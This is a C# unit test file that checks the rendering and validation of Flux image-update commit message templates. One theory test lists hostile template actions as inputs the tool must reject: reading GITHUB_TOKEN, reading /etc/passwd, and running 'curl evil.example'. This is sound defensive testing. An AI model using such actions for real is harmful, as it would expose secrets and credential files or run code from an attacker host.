using Tidemark.Automation;
using Tidemark.Configuration;
using Tidemark.Configuration.Flux;

namespace Tidemark.Tests.Automation;

/// <summary>
/// Flux <c>messageTemplate</c>s rendered with the plan as Flux's data model. The expected messages follow Go's rules
/// (trim markers, sorted map keys, println's newline) applied by hand to the data below.
/// </summary>
public sealed class CommitMessageTemplateTests
{
    private const string Deployments = """
        ---
        # two objects in one file
        apiVersion: apps/v1
        kind: Deployment
        metadata:
          name: cert-manager
          namespace: cert-manager
        spec:
          template:
            spec:
              containers:
                - image: quay.io/jetstack/cert-manager-controller:v1.16.2 # {"$imagepolicy": "flux-system:cert-manager-controller"}
        ---
        apiVersion: apps/v1
        kind: Deployment
        metadata:
          name: webhook
          namespace: cert-manager
        spec:
          template:
            spec:
              containers:
                - image: quay.io/jetstack/cert-manager-webhook:v1.16.2 # {"$imagepolicy": "flux-system:cert-manager-webhook"}

        """;

    private const string Kustomization = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nimages:\n  - name: nginx\n    newTag: 1.25.3 # {\"$imagepolicy\": \"apps:nginx:tag\"}\n";

    private static readonly Plan Plan = new(
        [
            new PlannedChange("nginx", "1.25.3", "1.27.3", "non-breaking", null, "newer", [new SitePlace("infrastructure/apps/kustomization.yaml", 5)])
            {
                Sites = [new SiteChange("infrastructure/apps/kustomization.yaml", 5, "apps:nginx:tag", "1.25.3", "1.27.3")],
            },
            new PlannedChange("quay.io/jetstack/cert-manager-controller", "v1.16.2", "v1.18.2", "non-breaking", null, "newer", [new SitePlace("infrastructure/cert-manager/deployments.yaml", 12)])
            {
                Sites = [new SiteChange("infrastructure/cert-manager/deployments.yaml", 12, "flux-system:cert-manager-controller", "quay.io/jetstack/cert-manager-controller:v1.16.2", "quay.io/jetstack/cert-manager-controller:v1.18.2")],
            },
            new PlannedChange("quay.io/jetstack/cert-manager-webhook", "v1.16.2", "v1.18.2", "non-breaking", null, "newer", [new SitePlace("infrastructure/cert-manager/deployments.yaml", 23)])
            {
                Sites = [new SiteChange("infrastructure/cert-manager/deployments.yaml", 23, "flux-system:cert-manager-webhook", "quay.io/jetstack/cert-manager-webhook:v1.16.2", "quay.io/jetstack/cert-manager-webhook:v1.18.2")],
            },
        ],
        [],
        [],
        [],
        [new FileEdit("infrastructure/apps/kustomization.yaml", Kustomization, ""), new FileEdit("infrastructure/cert-manager/deployments.yaml", Deployments, "")],
        []);

    [Fact]
    public void Render_FluxCertManagerExample_OneLinePerChange()
    {
        var message = Render("|-\n        chore(cert-manager): update images\n\n        {{ range .Changed.Changes -}}\n        - {{ .OldValue }} -> {{ .NewValue }}\n        {{ end -}}");

        Assert.Equal("chore(cert-manager): update images\n\n- 1.25.3 -> 1.27.3\n- quay.io/jetstack/cert-manager-controller:v1.16.2 -> quay.io/jetstack/cert-manager-controller:v1.18.2\n- quay.io/jetstack/cert-manager-webhook:v1.16.2 -> quay.io/jetstack/cert-manager-webhook:v1.18.2\n", message);
    }

    [Fact]
    public void Render_FluxDocumentedExample_FilesRelativeToUpdatePathAndObjectsSorted()
    {
        const string Template = """
            |
                    Automated image update

                    Automation name: {{ .AutomationObject }}

                    Files:
                    {{ range $filename, $_ := .Changed.FileChanges -}}
                    - {{ $filename }}
                    {{ end -}}

                    Objects:
                    {{ range $resource, $changes := .Changed.Objects -}}
                    - {{ $resource.Kind }} {{ $resource.Name }}
                      Changes:
                    {{- range $_, $change := $changes }}
                        - {{ $change.OldValue }} -> {{ $change.NewValue }}
                    {{ end -}}
                    {{ end -}}
            """;

        var message = Render(Template);

        // objects sorted by namespace, then name: (""/"") the Kustomization, cert-manager/cert-manager, cert-manager/webhook
        Assert.Equal("""
            Automated image update

            Automation name: flux-system/fleet

            Files:
            - apps/kustomization.yaml
            - cert-manager/deployments.yaml
            Objects:
            - Kustomization 
              Changes:
                - 1.25.3 -> 1.27.3
            - Deployment cert-manager
              Changes:
                - quay.io/jetstack/cert-manager-controller:v1.16.2 -> quay.io/jetstack/cert-manager-controller:v1.18.2
            - Deployment webhook
              Changes:
                - quay.io/jetstack/cert-manager-webhook:v1.16.2 -> quay.io/jetstack/cert-manager-webhook:v1.18.2

            """, message);
    }

    [Fact]
    public void Render_LegacyUpdatedImagesAndValues_AreMappedNotFailed()
    {
        var message = Render("|-\n        [{{ .Values.ticket }}] {{ .Values.missing }}\n        {{range .Updated.Images}}{{println .}}{{end}}{{ range $f, $r := .Updated.Files }}{{ $f }}: {{ len $r.Objects }}\n        {{ end }}{{ (index .Updated.Images 0).Identifier }} {{ (index .Updated.Images 1).Registry }} {{ (index .Updated.Images 1).Policy }}");

        Assert.Equal("[OPS-7] <no value>\nnginx:1.27.3\nquay.io/jetstack/cert-manager-controller:v1.18.2\nquay.io/jetstack/cert-manager-webhook:v1.18.2\napps/kustomization.yaml: 1\ncert-manager/deployments.yaml: 2\n1.27.3 quay.io flux-system/cert-manager-controller", message);
    }

    [Fact]
    public void Render_UnknownField_IsAConfigurationErrorAtTheTemplatesFileLine()
    {
        var template = CommitMessageTemplate.From(Automation("|-\n        chore: update\n\n        {{ range .Changed.Changes }}{{ .Image }}{{ end }}"))!;

        var error = Assert.Throws<ConfigurationException>(() => template.Render(Plan));

        var diagnostic = Assert.Single(error.Errors);
        Assert.Equal(("automation.yaml", 14), (diagnostic.File, diagnostic.Line));
        Assert.Equal("spec.git.commit.messageTemplate", diagnostic.Field);
        Assert.Contains("ImageUpdateAutomation flux-system/fleet", diagnostic.Message, StringComparison.Ordinal);
        Assert.Contains("{{ .Image }}", diagnostic.Message, StringComparison.Ordinal);
        Assert.Contains("can't evaluate field Image in type Change", diagnostic.Message, StringComparison.Ordinal);
        Assert.Contains(".Changed.Changes (.OldValue .NewValue .Setter)", diagnostic.Fix, StringComparison.Ordinal);
    }

    [Fact]
    public void From_UnsupportedAction_IsAConfigurationErrorWhenTheSettingsAreRead()
    {
        var error = Assert.Throws<ConfigurationException>(() => CommitMessageTemplate.From(Automation("'update {{ template \"x\" }}'")));

        var diagnostic = Assert.Single(error.Errors);
        Assert.Equal(("automation.yaml", 11), (diagnostic.File, diagnostic.Line));
        Assert.Contains("{{template}} is not supported", diagnostic.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("{{ env \"GITHUB_TOKEN\" }}", "env")]
    [InlineData("{{ readFile \"/etc/passwd\" }}", "readFile")]
    [InlineData("{{ exec \"curl\" \"evil.example\" }}", "exec")]
    [InlineData("{{ .AutomationObject | expandenv }}", "expandenv")]
    [InlineData("{{ if true }}{{ getenv \"HOME\" }}{{ end }}", "getenv")]
    public void From_FunctionThatWouldReadTheEnvironmentFilesOrRunSomething_IsAnErrorAtTheTemplatesPlaceWhenRead(string action, string function)
    {
        var error = Assert.Throws<ConfigurationException>(() => CommitMessageTemplate.From(Automation($"'update {action}'")));

        var diagnostic = Assert.Single(error.Errors);
        Assert.Equal(("automation.yaml", 11, "spec.git.commit.messageTemplate"), (diagnostic.File, diagnostic.Line, diagnostic.Field));
        Assert.Contains($"function \"{function}\" not defined: templates cannot read environment variables or files, or run anything", diagnostic.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null)]
    [InlineData("'chore: plain text'")]
    public void From_NoTemplateActions_IsNull(string? template)
    {
        Assert.Null(CommitMessageTemplate.From(template is null ? null : Automation(template)));
    }

    [Theory]
    [InlineData("infrastructure/a.yaml", "./infrastructure", "a.yaml")]
    [InlineData("infrastructure/a.yaml", "infrastructure/", "a.yaml")]
    [InlineData("apps/a.yaml", "./infrastructure", "apps/a.yaml")]
    [InlineData("apps/a.yaml", "./", "apps/a.yaml")]
    [InlineData("apps/a.yaml", null, "apps/a.yaml")]
    public void Relative_FileAndUpdatePath_IsRelativeInsideThePath(string file, string? updatePath, string expected)
    {
        Assert.Equal(expected, FluxTemplateData.Relative(file, updatePath));
    }

    private static string Render(string templateYaml) => CommitMessageTemplate.From(Automation(templateYaml))!.Render(Plan);

    /// <summary>An automation whose messageTemplate value (as YAML, after the key) starts on line 11.</summary>
    private static FluxImageUpdateAutomation Automation(string templateYaml) => Assert.Single(FluxObjectReader.Read(
        "apiVersion: image.toolkit.fluxcd.io/v1\nkind: ImageUpdateAutomation\nmetadata:\n  name: fleet\n  namespace: flux-system\nspec:\n  update: {path: ./infrastructure}\n  git:\n    commit:\n      messageTemplateValues: {ticket: OPS-7}\n      messageTemplate: " + templateYaml + "\n",
        "automation.yaml").Automations);
}
